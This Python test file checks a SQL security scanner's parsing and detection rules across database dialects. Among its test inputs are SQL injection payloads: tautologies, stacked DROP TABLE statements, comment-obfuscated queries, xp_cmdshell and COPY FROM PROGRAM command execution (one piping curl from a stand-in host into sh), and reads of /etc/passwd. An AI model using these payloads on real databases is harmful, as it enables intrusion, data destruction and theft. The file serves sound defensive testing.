"""SQL: kinds of statements, tables, columns, what reaches beyond the database, and what hides."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ringfence.errors import UnknownName
from ringfence.scanning import Kind, Trait, scan
from ringfence.scanning.effects import HOLE, Budget, Effect
from ringfence.scanning.sql import parser_name, sql_effects
from ringfence.threat import ThreatLevel


def effects(source: str, dialect: str = "") -> list[Effect]:
    """Return the effects of a source."""
    return list(sql_effects(source, Budget(len(source)), dialect))


def queries(source: str, dialect: str = "") -> set[tuple[str, str]]:
    """Return kind and table of all that a source does within the database."""
    return {(each.name, each.value) for each in effects(source, dialect) if each.kind is Kind.QUERY}


def beyond(source: str, dialect: str = "") -> set[tuple[Kind, str, str]]:
    """Return what a source does beyond the database."""
    within = {Kind.QUERY, Kind.COLUMN}
    return {
        (each.kind, each.name, each.value) for each in effects(source, dialect) if each.kind not in within
    }


def rules(source: str, dialect: str = "") -> set[str]:
    """Return the rules that block a source."""
    return {
        found.rule
        for found in scan(source, "sql", dialect=dialect).findings
        if found.level >= ThreatLevel.HIGH
    }


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("SELECT 1", {("select", "")}),
        ("SELECT a FROM s.t JOIN u ON t.x = u.x", {("select", "s.t"), ("select", "u")}),
        (
            "SELECT (SELECT 1 FROM t) FROM u WHERE EXISTS (SELECT 1 FROM v)",
            {("select", "t"), ("select", "u"), ("select", "v")},
        ),
        ("INSERT INTO t (a) SELECT b FROM u", {("insert", "t"), ("select", "u")}),
        ("UPDATE t SET a = 1 WHERE b = 2", {("update", "t")}),
        ("DELETE FROM t WHERE a IN (SELECT a FROM u)", {("delete", "t"), ("select", "u")}),
        (
            "WITH x AS (DELETE FROM t WHERE a = 1 RETURNING *) SELECT * FROM x",
            {("delete", "t"), ("select", "")},
        ),
        (
            "MERGE INTO t USING u ON t.a = u.a WHEN MATCHED THEN UPDATE SET b = 1",
            {("merge", "t"), ("merge", "u")},
        ),
        ("CREATE TABLE t AS SELECT a FROM u", {("create table", "t"), ("select", "u")}),
        ("SELECT a INTO t FROM u", {("create table", "t"), ("select", "u")}),
        ("DROP TABLE t, u", {("drop table", "t"), ("drop table", "u")}),
        ("DROP TABLE #t", {("drop temporary table", "#t")}),
        ("ALTER TABLE t DROP COLUMN a", {("alter table", "t"), ("drop column", "t")}),
        ("TRUNCATE TABLE t", {("truncate table", "t")}),
        ("GRANT SELECT ON t TO x", {("grant", "t")}),
        ("CREATE USER x IDENTIFIED BY 'y'", {("create user", "")}),
        ("CALL p(1)", {("call", "")}),
        ("EXPLAIN SELECT a FROM t", {("explain", "")}),
        ("SELECT a FROM f('x')", {("select", "f()")}),
        ("SELECT `a` FROM `t`", {("select", "t")}),
        ("SELECT [a] FROM [dbo].[t]", {("select", "dbo.t")}),
    ],
)
def test_statements_and_tables(source: str, expected: set[tuple[str, str]]) -> None:
    """Each table comes with what is done to it, and a statement without one comes by itself."""
    assert queries(source) == expected


@pytest.mark.parametrize(
    ("source", "tables"),
    [
        ("WITH x AS (SELECT 1) SELECT * FROM x", {""}),
        ("WITH x AS (SELECT a FROM x) SELECT * FROM x", {"x"}),
        ("WITH x AS (SELECT 1), y AS (SELECT * FROM x) SELECT * FROM y", {""}),
        ("WITH y AS (SELECT * FROM x), x AS (SELECT 1) SELECT * FROM y", {"x"}),
        ("WITH RECURSIVE x AS (SELECT 1 UNION ALL SELECT a FROM x) SELECT * FROM x", {""}),
        ("SELECT * FROM (WITH x AS (SELECT 1) SELECT * FROM x) y, x", {"x"}),
        ("WITH x AS (SELECT 1) SELECT * FROM s.x", {"s.x"}),
    ],
)
def test_a_table_expression_is_no_table_where_it_is_bound(source: str, tables: set[str]) -> None:
    """A name that a WITH binds hides a table of that name exactly where the database would see it so."""
    assert {table for _, table in queries(source)} == tables


def test_columns() -> None:
    """Columns come as they are written, also those of conditions, assignments and lists."""
    source = "INSERT INTO t (a) SELECT u.b FROM u WHERE c = 1; UPDATE t SET d = 1 WHERE e = 2; SELECT *, x.* FROM x"
    assert {each.value for each in effects(source) if each.kind is Kind.COLUMN} == {
        "a",
        "b",
        "c",
        "d",
        "e",
        "*",
    }


def test_places() -> None:
    """An effect stands where its table is written."""
    found = next(each for each in effects("SELECT a\n  FROM s.users u") if each.kind is Kind.QUERY)
    assert (found.line, found.column, found.end_column) == (2, 9, 14)


@pytest.mark.parametrize(
    ("dialect", "source", "expected"),
    [
        ("postgres", "COPY t FROM PROGRAM 'id'", (Kind.RUN, "copy program", "id")),
        ("postgres", "COPY t TO '/x'", (Kind.WRITE, "copy", "/x")),
        ("postgres", "SELECT pg_catalog.pg_read_file('/x' || '/y')", (Kind.READ, "pg_read_file", "/x/y")),
        ("postgres", "SELECT \"pg_read_file\"('/x')", (Kind.READ, "pg_read_file", "/x")),
        ("postgres", "SELECT lo_export(1, '/x')", (Kind.WRITE, "lo_export", "/x")),
        (
            "postgres",
            "SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)",
            (Kind.CONNECT, "dblink", "host=x"),
        ),
        (
            "postgres",
            "CREATE FUNCTION f() RETURNS int AS 'x' LANGUAGE plpython3u",
            (Kind.NATIVE, "create function", "plpython3u"),
        ),
        (
            "mysql",
            "SELECT LOAD_FILE(CONCAT('/e', CHAR(116, 99), 0x2f78))",
            (Kind.READ, "load_file", "/etc/x"),
        ),
        ("mysql", "SELECT a FROM t INTO OUTFILE '/x'", (Kind.WRITE, "into outfile", "/x")),
        ("mysql", "LOAD DATA LOCAL INFILE '/x' INTO TABLE t", (Kind.READ, "load data", "/x")),
        ("mysql", "CREATE FUNCTION sys_exec RETURNS INT SONAME 'x.so'", (Kind.NATIVE, "soname", "x.so")),
        ("tsql", "EXEC xp_cmdshell 'dir'", (Kind.RUN, "xp_cmdshell", "dir")),
        ("tsql", "EXEC @r = master..xp_cmdshell 'dir'", (Kind.RUN, "xp_cmdshell", "dir")),
        ("tsql", "xp_cmdshell 'dir'", (Kind.RUN, "xp_cmdshell", "dir")),
        ("tsql", "BULK INSERT t FROM 'x'", (Kind.READ, "bulk insert", "x")),
        ("tsql", "EXEC sp_executesql N'SELECT 1'", (Kind.EVALUATE, "sp_executesql", "SELECT 1")),
        ("tsql", "WAITFOR DELAY '0:0:5'", (Kind.RESOURCE, "waitfor", "0:0:5")),
        ("sqlite", "ATTACH DATABASE '/x' AS y", (Kind.WRITE, "attach", "/x")),
        ("sqlite", "SELECT load_extension('x')", (Kind.NATIVE, "load_extension", "x")),
        (
            "oracle",
            "BEGIN EXECUTE IMMEDIATE 'DROP TABLE t'; END;",
            (Kind.EVALUATE, "execute", "DROP TABLE t"),
        ),
        (
            "oracle",
            "SELECT UTL_HTTP.REQUEST('http://x') FROM dual",
            (Kind.CONNECT, "utl_http.request", "http://x"),
        ),
        ("duckdb", "SELECT * FROM read_csv('/x.csv')", (Kind.READ, "read_csv", "/x.csv")),
        ("duckdb", "SELECT * FROM '/x.csv'", (Kind.READ, "from", "/x.csv")),
        ("duckdb", "COPY t TO 's3://x/y'", (Kind.CONNECT, "copy", "s3://x/y")),
        ("duckdb", "INSTALL httpfs", (Kind.NATIVE, "install", "httpfs")),
        ("clickhouse", "SELECT * FROM url('http://x', 'CSV')", (Kind.CONNECT, "url", "http://x")),
        ("spark", "SELECT * FROM csv.`/x`", (Kind.READ, "from", "/x")),
    ],
)
def test_what_reaches_beyond(dialect: str, source: str, expected: tuple[Kind, str, str]) -> None:
    """What leaves the database is told with what it is done to, in the words of each database, and when none is named."""
    assert expected in beyond(source, dialect)
    assert expected in beyond(source) or dialect in {"spark", "oracle", "mysql"}


def test_a_value_from_elsewhere_is_unresolved() -> None:
    """What is not constant leaves a hole."""
    found = next(each for each in effects("SELECT pg_read_file('/x/' || a) FROM t") if each.kind is Kind.READ)
    assert found.value == f"/x/{HOLE}"
    assert Trait.UNRESOLVED in found.traits


def test_later_statements_are_stacked() -> None:
    """Every statement but the first is stacked, and a change after a query follows it."""
    first, second, third = [
        each for each in effects("SELECT a FROM t; SELECT b FROM u; DROP TABLE v") if each.kind is Kind.QUERY
    ]
    assert not first.traits
    assert second.traits == {Trait.STACKED}
    assert third.traits == {Trait.STACKED, Trait.FOLLOWS}


@pytest.mark.parametrize(
    ("source", "rule"),
    [
        ("SELECT a FROM t WHERE b = '' OR 1=1", "database-tautology"),
        ("SELECT a FROM t WHERE (b = 'x' OR 'a' LIKE '%')", "database-tautology"),
        ("SELECT a FROM t WHERE b = 'x' OR 2 > 1 -- y", "database-tautology"),
        ("SELECT a FROM t WHERE b = 'x' OR NOT FALSE", "database-tautology"),
        ("UPDATE t SET a = 1 WHERE b = b", "database-change-all"),
        ("DELETE FROM t WHERE TRUE", "database-change-all"),
        ("EXPLAIN ANALYZE DELETE FROM t", "database-change-all"),
        ("PREPARE x AS DELETE FROM t", "database-change-all"),
        ("EXEC('DROP TABLE t')", "database-drop"),
        ("DO $$ BEGIN DROP TABLE t; END $$", "database-drop"),
        ("SELECT 1 FROM t /*!50000 UNION SELECT user FROM mysql.user */", "database-union-catalogue"),
        ("SELECT '\\'', a FROM t; DROP TABLE t; -- '", "database-drop"),
        ("SELECT 1 --1; DROP TABLE t", "database-drop"),
        ("SELECT a FROM t WHERE b = 'x' -- ' AND c = 'y'", "database-hidden"),
        ("SELECT/**/a/**/FROM/**/t", "database-hidden"),
        ("COPY t FROM PROGRAM 'curl http://x.example | sh'", "database-run-command"),
        ("SELECT LOAD_FILE('/etc/passwd')", "path-read-credentials"),
    ],
)
def test_it_is_found_out(source: str, rule: str) -> None:
    """What a source does in a roundabout way is found as if it did it plainly, also where the database is not known."""
    assert rule in rules(source)


HONEST = [
    (
        "",
        "SELECT a, AVG(b) FROM t WHERE c >= '2020-01-01' GROUP BY a HAVING COUNT(*) > 5 ORDER BY 2 DESC LIMIT 10",
    ),
    ("", "SELECT a FROM t WHERE 1 = 1 AND b = 2"),
    ("", "SELECT a FROM t WHERE ('all' = 'all' OR region = 'all')"),
    ("", "-- the 10 best\nSELECT a FROM t\n-- AND b = 'x'\nORDER BY a;"),
    ("", "BEGIN; UPDATE t SET a = a - 1 WHERE b = 1; UPDATE t SET a = a + 1 WHERE b = 2; COMMIT;"),
    ("", "CREATE TABLE t (a INT); INSERT INTO t VALUES (1), (2); SELECT a FROM t"),
    ("", "INSERT INTO log (m) VALUES ('it''s fine; DROP TABLE t')"),
    ("postgres", "SELECT column_name FROM information_schema.columns WHERE table_name = 't'"),
    (
        "postgres",
        "SELECT DISTINCT ON (a) a, b->>'c' FROM t WHERE d @> ARRAY['x'] AND e > now() - interval '7 days'",
    ),
    ("postgres", "INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET a = excluded.a RETURNING a"),
    ("mysql", "SELECT GROUP_CONCAT(DISTINCT a ORDER BY a SEPARATOR ', ') FROM `t` # all"),
    ("mysql", "INSERT INTO t (a) VALUES ('it\\'s fine')"),
    ("mysql", "/*!40101 SET NAMES utf8 */; SELECT 1"),
    ("tsql", "SELECT TOP (10) [a], CAST([b] AS DECIMAL(10, 2)) FROM [s].[t] WITH (NOLOCK)"),
    ("tsql", "SELECT * INTO #t FROM u; SELECT COUNT(*) FROM #t; DROP TABLE #t"),
    ("tsql", "EXEC dbo.GetOrders @CustomerId = 5"),
    ("sqlite", "SELECT name FROM sqlite_master WHERE type = 'table'"),
    ("sqlite", "PRAGMA table_info('t')"),
    ("bigquery", "SELECT * EXCEPT (a), SAFE_DIVIDE(b, c) FROM `p.d.t`, UNNEST(items) AS item"),
    (
        "snowflake",
        "SELECT v:a::string FROM t, LATERAL FLATTEN(input => t.b) QUALIFY ROW_NUMBER() OVER (ORDER BY c) = 1",
    ),
    ("duckdb", "SELECT * FROM read_csv('data.csv') LIMIT 5"),
    (
        "clickhouse",
        "SELECT toStartOfHour(a) AS h, uniq(b) FROM t WHERE a > now() - INTERVAL 1 DAY GROUP BY h",
    ),
    ("oracle", "SELECT a, LEVEL FROM t START WITH b IS NULL CONNECT BY PRIOR a = b"),
]


@pytest.mark.parametrize(("dialect", "source"), HONEST)
def test_honest_sql_passes(dialect: str, source: str) -> None:
    """Queries as analysts and programs write them are understood and blocked by no rule."""
    report = scan(source, "sql", dialect=dialect)
    assert report.problem is None
    assert report.level < ThreatLevel.HIGH, report.findings


@pytest.mark.parametrize(
    "source", ["SELECT 'x", "foo bar baz", "SELECT FROM WHERE", "a", "x = 1", "HANDLER t OPEN"]
)
def test_what_is_not_understood_is_refused(source: str) -> None:
    """A statement that is no SQL, or one that the parser only half understands, does not pass as harmless."""
    report = scan(source, "sql")
    assert report.problem is not None
    assert report.problem.kind == "unparsed"


@pytest.mark.parametrize(
    "opening", ["(", "f(", "SELECT (", "CASE WHEN ", "NOT ", "decimal(", "[", "EXPLAIN ", "exec "]
)
def test_deep_nesting_is_refused(opening: str) -> None:
    """A statement that nests without end is refused for that, in little time."""
    report = scan("SELECT " + opening * 2000, "sql")
    assert report.problem is not None


@pytest.mark.parametrize(
    "unit", ["a = 1 AND ", "1 + ", "SELECT 1; ", "/**/ ", "'a' || ", "-- '\n", "UNION SELECT 1 "]
)
def test_long_sources_end(unit: str) -> None:
    """A source of tens of thousands of characters ends (each test has a time limit)."""
    scan("SELECT 1 " + unit * (40_000 // len(unit)), "sql", dialect="mysql")


def test_dialects_go_by_the_names_that_people_use() -> None:
    """A database is known by its usual names, and one that nobody knows is named in the error with what is near."""
    assert [parser_name(name) for name in ("", "PostgreSQL", "mssql", "mariadb", "sqlite3")] == [
        "",
        "postgres",
        "tsql",
        "mysql",
        "sqlite",
    ]
    with pytest.raises(UnknownName, match=r"unknown dialect 'postgers'.*Did you mean 'postgres'"):
        parser_name("postgers")
    with pytest.raises(UnknownName, match="unknown dialect 'postgers'"):
        scan("SELECT 1", "sql", dialect="postgers")


@given(
    st.lists(
        st.sampled_from(
            [
                "SELECT",
                "FROM",
                "WHERE",
                "(",
                ")",
                "'",
                '"',
                "--",
                "/*",
                "*/",
                ";",
                ",",
                "*",
                "t",
                "a",
                "1",
                "=",
                "OR",
                "UNION",
                "DROP",
                "TABLE",
                "EXEC",
                "xp_cmdshell",
                "\\",
                "`",
                "$$",
                "#",
                "@",
            ]
        )
    )
)
def test_any_sequence_of_words_is_answered(words: list[str]) -> None:
    """No sequence of words makes the analyser fail in a way of its own."""
    report = scan(" ".join(words), "sql")
    assert report.problem is None or "analyser" not in report.problem.message


@given(st.text(max_size=200))
def test_any_text_is_answered(text: str) -> None:
    """Nor does any text."""
    report = scan(text, "sql")
    assert report.problem is None or "analyser" not in report.problem.message
